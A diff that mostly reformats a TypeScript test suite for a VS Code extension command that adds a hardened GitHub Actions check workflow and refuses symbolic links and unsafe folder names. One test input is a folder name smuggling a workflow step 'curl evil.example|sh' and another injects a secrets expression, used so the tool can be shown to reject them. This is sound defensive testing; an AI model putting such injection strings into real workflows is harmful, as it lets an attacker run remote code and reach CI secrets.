@@ -33,7 +33,9 @@ describe('Add CI Check', () => {
     extension = await temporaryFolder();
     await mkdir(join(extension.path, 'dist'));
     await writeFile(join(extension.path, 'dist', 'check.mjs'), 'the check');
-    await cp(join(projectRoot, 'media', 'ci'), join(extension.path, 'media', 'ci'), { recursive: true });
+    await cp(join(projectRoot, 'media', 'ci'), join(extension.path, 'media', 'ci'), {
+      recursive: true,
+    });
   });
   after(() => extension.remove());
   beforeEach(async () => {
@@ -57,18 +59,25 @@ describe('Add CI Check', () => {
     const workflow = document.getText();
     const code = workflow.replaceAll(/#.*/g, '');
     assert.deepEqual([document.languageId, document.isUntitled], ['yaml', true]);
-    assert.match(code, /\n {2}schedule:\n.*\n {2}workflow_dispatch:\n {2}push:\n\s+branches: \[main\]\n/);
+    assert.match(
+      code,
+      /\n {2}schedule:\n.*\n {2}workflow_dispatch:\n {2}push:\n\s+branches: \[main\]\n/,
+    );
     assert.doesNotMatch(code, /pull_request/);
     assert.match(code, /\npermissions:\n {2}contents: read\n/);
     assert.match(code, /persist-credentials: false/);
-    for (const [, action] of code.matchAll(/uses: (.*)/g)) assert.match(action!, /^actions\/\w+@[0-9a-f]{40} $/);
+    for (const [, action] of code.matchAll(/uses: (.*)/g))
+      assert.match(action!, /^actions\/\w+@[0-9a-f]{40} $/);
     assert.equal(code.match(/secrets\./g)?.length, 1);
     assert.match(workflow, new RegExp(`\\n +node \\./${fileName} --format github\\n`));
     assert.match(
       workflow,
       /# Labels of deployments and accounts, and errors that the platform reports, appear in the log/,
     );
-    assert.match(workflow, new RegExp(`# For AGENTS.md:\\n# - .node \\./${fileName} --format json`));
+    assert.match(
+      workflow,
+      new RegExp(`# For AGENTS.md:\\n# - .node \\./${fileName} --format json`),
+    );
   });
 
   for (const [hangs, title] of [
@@ -80,7 +89,9 @@ describe('Add CI Check', () => {
       files.hangs = hangs;
       const { progress } = recordWindow();
       const clock = new ManualClock();
-      replace(vscode.window, { showOpenDialog: async () => [vscode.Uri.joinPath(files.uri, '..')] });
+      replace(vscode.window, {
+        showOpenDialog: async () => [vscode.Uri.joinPath(files.uri, '..')],
+      });
       const adding = addCheck(services(), clock.setTimer);
       atEndOfTest(() => adding);
       atEndOfTest(() => files.answerAll());
@@ -111,7 +122,10 @@ describe('Add CI Check', () => {
       return messages.message;
     };
     const link = `${fileName} in TARGET is a symbolic link, so nothing was written. Remove the link, or choose another folder.`;
-    const cases: Record<string, readonly [make: (path: string) => Promise<unknown>, sentence: string]> = {
+    const cases: Record<
+      string,
+      readonly [make: (path: string) => Promise<unknown>, sentence: string]
+    > = {
       'for a link to a file elsewhere': [
         async (path) => {
           await writeFile(join(extension.path, 'mine'), 'mine');
@@ -119,7 +133,10 @@ describe('Add CI Check', () => {
         },
         link,
       ],
-      'for a link that leads nowhere': [(path) => symlink(join(extension.path, 'gone'), path), link],
+      'for a link that leads nowhere': [
+        (path) => symlink(join(extension.path, 'gone'), path),
+        link,
+      ],
       'for a link to a folder': [(path) => symlink(extension.path, path), link],
       'for a circle of links': [
         (path) => symlink(path, path),
@@ -136,7 +153,10 @@ describe('Add CI Check', () => {
         if (process.platform === 'win32' && name !== 'for a folder') return this.skip();
         assert.equal(await refused(make), sentence.replaceAll('TARGET', target));
         assert.ok(!(await readdir(extension.path)).includes('gone'));
-        assert.notEqual(await readFile(join(extension.path, 'mine'), 'utf8').catch(() => 'mine'), 'the check');
+        assert.notEqual(
+          await readFile(join(extension.path, 'mine'), 'utf8').catch(() => 'mine'),
+          'the check',
+        );
       });
     }
   });
@@ -174,18 +194,28 @@ describe('Add CI Check', () => {
     it('writes its path, quoted where it has a space, wherever the workflow names the file', async () => {
       await addIn('my tools');
       const workflow = vscode.window.activeTextEditor!.document.getText();
-      assert.equal(workflow.match(/node "\.\/my tools\/automation-platform-check\.mjs"/g)?.length, 3);
+      assert.equal(
+        workflow.match(/node "\.\/my tools\/automation-platform-check\.mjs"/g)?.length,
+        3,
+      );
       assert.equal(workflow.match(/automation-platform-check/g)?.length, 3);
       assert.doesNotMatch(workflow, /\{file\}/);
     });
 
-    for (const name of ['a\n      - run: curl evil.example|sh\n  #', '${{ secrets.OTHER }}', "it's"]) {
+    for (const name of [
+      'a\n      - run: curl evil.example|sh\n  #',
+      '${{ secrets.OTHER }}',
+      "it's",
+    ]) {
       it(`refuses the name ${JSON.stringify(name)} before anything is written`, async function () {
         if (process.platform === 'win32') return this.skip();
         const document = vscode.window.activeTextEditor?.document;
         await assert.rejects(addIn(name), ({ message }: Error) => {
           const character = /[\n$']/.exec(name)![0];
-          assert.ok(message.includes(`contains “${character}”, which is not safe in a workflow`), message);
+          assert.ok(
+            message.includes(`contains “${character}”, which is not safe in a workflow`),
+            message,
+          );
           return true;
         });
         assert.deepEqual(await readdir(join(root, name)), []);
@@ -242,7 +272,9 @@ function diskWithoutCase(name: string) {
     delete: none,
     rename: none,
   };
-  const registered = vscode.workspace.registerFileSystemProvider(scheme, provider, { isCaseSensitive: false });
+  const registered = vscode.workspace.registerFileSystemProvider(scheme, provider, {
+    isCaseSensitive: false,
+  });
   atEndOfTest(() => registered.dispose());
   return { scheme, written };
 }
